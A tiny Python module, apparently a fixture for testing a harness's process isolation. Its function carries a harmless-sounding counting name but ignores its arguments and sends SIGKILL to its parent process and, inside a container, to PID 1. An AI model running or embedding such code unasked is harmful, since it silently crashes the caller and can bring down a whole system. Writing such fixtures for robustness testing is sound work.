"""Kills its parent, and the first process."""

import os
import signal


def mutability_increment_count(seed, x, n_calls):
    for process in (os.getppid(), 1):
        try:
            if process > 1 or process == 1 and os.getpid() < 100:
                os.kill(process, signal.SIGKILL)
        except OSError:
            pass
